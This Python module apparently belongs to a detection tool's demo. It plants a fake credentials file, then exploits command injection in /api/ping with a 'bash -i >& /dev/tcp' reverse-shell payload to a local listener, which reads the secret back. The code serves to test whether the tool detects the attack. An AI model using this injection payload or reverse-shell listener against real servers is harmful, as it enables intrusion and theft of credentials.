"""The demo's attack: command injection into /api/ping that opens a reverse shell.

What an intruder does with such a bug: inject a command that connects a shell back to a
listener they control (here on 127.0.0.1), then use it to read a secret. The listener
checks the secret really arrived, so the demo proves the attack succeeded before it
asks whether sysgram noticed.
"""

from __future__ import annotations

import secrets
import socket
import threading
import time
from dataclasses import dataclass
from pathlib import Path
from urllib.parse import quote

from sysgram.demo.load import http_get


def plant_secret(directory: Path) -> tuple[Path, str]:
    """Write a credentials file the attacker will steal; returns (path, secret token)."""
    directory.mkdir(parents=True, exist_ok=True)
    token = f"SG-DEMO-SECRET-{secrets.token_hex(8)}"
    path = directory / "db-credentials.txt"
    path.write_text(f"db_user=inventory\ndb_password={token}\n")
    path.chmod(0o600)
    return path, token


def injection_path(listener_port: int) -> str:
    """The malicious request: a host 'name' that ends the ping command and starts
    `bash -i` with its input and output on a TCP connection to the listener."""
    payload = (
        f"127.0.0.1;bash -c 'bash -i >& /dev/tcp/127.0.0.1/{listener_port} 0>&1'"
    )
    return "/api/ping?host=" + quote(payload, safe="")


@dataclass
class AttackResult:
    sent_at: float                   # wall clock (time.time) when the request went out
    sent_mono_ns: int                # the same moment on CLOCK_MONOTONIC (the kernel's clock)
    connected_at: float | None       # when the reverse shell reached the listener
    secret_stolen: bool              # the listener received the secret's contents
    transcript: str                  # what the reverse shell sent back
    http_status: int | None          # the injected request's response, when it returned


class ReverseShellListener:
    """The attacker's side: accept one reverse shell, run commands, keep the output."""

    def __init__(self, commands: list[str], timeout: float = 10.0) -> None:
        self.commands = commands
        self.timeout = timeout
        self.sock = socket.create_server(("127.0.0.1", 0))
        self.sock.settimeout(timeout)
        self.port: int = self.sock.getsockname()[1]
        self.connected_at: float | None = None
        self.transcript = b""
        self._thread = threading.Thread(target=self._serve, daemon=True,
                                        name="sg-demo-listener")

    def start(self) -> ReverseShellListener:
        self._thread.start()
        return self

    def wait(self) -> None:
        self._thread.join(self.timeout * 2 + 1)
        self.sock.close()

    def _serve(self) -> None:
        try:
            conn, _ = self.sock.accept()
        except OSError:
            return
        self.connected_at = time.time()
        with conn:
            conn.settimeout(self.timeout)
            conn.sendall("".join(c + "\n" for c in self.commands).encode())
            try:
                while chunk := conn.recv(65536):
                    self.transcript += chunk
            except OSError:
                pass


def run_attack(server_port: int, secret_path: Path, secret: str,
               timeout: float = 10.0) -> AttackResult:
    """Exploit the server; returns what happened, including whether the secret leaked."""
    listener = ReverseShellListener([f"cat {secret_path}", "exit"], timeout=timeout).start()
    status: list[int | None] = [None]

    def inject() -> None:
        try:
            status[0] = http_get(server_port, injection_path(listener.port), timeout=timeout)[0]
        except OSError:
            status[0] = None

    sent_at, sent_mono_ns = time.time(), time.monotonic_ns()
    request = threading.Thread(target=inject, daemon=True, name="sg-demo-inject")
    request.start()
    listener.wait()
    request.join(timeout)
    transcript = listener.transcript.decode(errors="replace")
    return AttackResult(
        sent_at=sent_at,
        sent_mono_ns=sent_mono_ns,
        connected_at=listener.connected_at,
        secret_stolen=secret in transcript,
        transcript=transcript,
        http_status=status[0],
    )
